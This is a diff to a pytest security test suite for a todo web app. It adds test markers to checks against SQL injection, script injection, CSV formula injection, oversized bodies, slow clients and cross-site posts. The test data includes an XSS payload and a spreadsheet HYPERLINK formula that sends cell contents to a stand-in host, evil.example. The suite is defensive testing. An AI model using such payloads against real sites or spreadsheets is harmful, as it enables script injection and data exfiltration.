@@ -120,6 +120,7 @@ INJECTIONS = [
 ]
 
 
+@pytest.mark.stack
 def test_sql_injection_in_text_is_stored_verbatim_and_harms_nothing(secured: Secured) -> None:
     before = secured.count_todos()
     for text in INJECTIONS:
@@ -132,6 +133,7 @@ def test_sql_injection_in_text_is_stored_verbatim_and_harms_nothing(secured: Sec
     assert secured.count_todos() == before + 2 * len(INJECTIONS)
 
 
+@pytest.mark.stack
 def test_sql_injection_in_ids_is_not_found_and_harms_nothing(secured: Secured) -> None:
     secured.call("POST", secured.direct + "/api/todos", json={"text": "keep me"})
     before = secured.count_todos()
@@ -155,6 +157,7 @@ def test_sql_injection_in_ids_is_not_found_and_harms_nothing(secured: Secured) -
 SCRIPT = '<script>alert("owned")</script><img src=x onerror=alert(1)>'
 
 
+@pytest.mark.stack
 def test_html_in_task_text_is_escaped_in_the_page(secured: Secured) -> None:
     secured.call("POST", secured.direct + "/api/todos", json={"text": SCRIPT})
     for base in (secured.direct, secured.proxied):
@@ -172,12 +175,13 @@ def test_html_in_task_text_is_escaped_in_the_page(secured: Secured) -> None:
     assert missing.status_code == 404 and "<script>alert" not in missing.text
 
 
+@pytest.mark.stack
 @pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(secured: Secured, prefix: str,
                                                                 tmp_path: Path) -> None:
     from app.db import db
+    from app.exports.tasks import write_csv
     from app.models import Todo
-    from worker.tasks import write_csv
 
     app = create_app({"SETTINGS": Settings.from_env(secured.env), "KEEP_LOGGING": True})
     formula = f'{prefix}HYPERLINK("http://evil.example/?"&A1, "click")'
@@ -198,6 +202,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(secured: Secured
 # --- Oversized bodies, slow clients ------------------------------------------------------------
 
 
+@pytest.mark.stack
 def test_oversized_bodies_are_refused_with_413_by_the_app_and_by_caddy(secured: Secured) -> None:
     body = b'{"text": "' + b"x" * (LIMIT + 10) + b'"}'
 
@@ -243,6 +248,7 @@ def slow_client(port: int, results: list[float], byte_interval: float = 0.5) -> 
     results.append(time.monotonic() - started)
 
 
+@pytest.mark.stack
 def test_slow_clients_are_cut_by_caddy_while_others_are_served(secured: Secured) -> None:
     port = int(secured.proxied.rsplit(":", 1)[1])
     cut_after: list[float] = []
@@ -272,6 +278,7 @@ def test_slow_clients_are_cut_by_caddy_while_others_are_served(secured: Secured)
 # --- Cross-site form posts -----------------------------------------------------------------------
 
 
+@pytest.mark.stack
 def test_cross_site_posts_are_refused_and_same_site_or_originless_posts_work(secured: Secured) -> None:
     todo_id = secured.call("POST", secured.direct + "/api/todos", json={"text": "target"}).json()["id"]
     before = secured.count_todos()
@@ -322,6 +329,7 @@ def test_env_example_holds_no_real_secret() -> None:
         Settings.from_env({"APP_ENV": "production", "SECRET_KEY": values["SECRET_KEY"]})
 
 
+@pytest.mark.stack
 def test_no_password_token_or_key_in_any_log_line_or_answer(secured: Secured) -> None:
     admin = secured.direct + "/admin/faults"
     assert secured.call("GET", admin).status_code == 401
